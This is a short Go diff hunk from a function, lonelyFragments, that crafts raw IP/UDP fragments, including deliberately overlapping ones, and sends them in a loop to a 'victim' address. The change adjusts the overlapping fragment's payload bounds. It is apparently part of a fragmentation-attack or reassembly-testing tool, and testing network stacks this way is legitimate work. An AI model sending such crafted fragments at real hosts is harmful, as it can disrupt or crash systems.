@@ -82,7 +82,7 @@ func lonelyFragments(victim netip.AddrPort) error {
 	for id := range uint16(n) {
 		head := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+1, moreFragments, whole[:first])
 		tail := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+2, rest, whole[first:])
-		overlap := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+1, rest/2, whole[first/2:])
+		overlap := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+1, rest/2, whole[first/2:first])
 		if err := errors.Join(r.send(head), r.send(tail), r.send(overlap)); err != nil {
 			return err
 		}
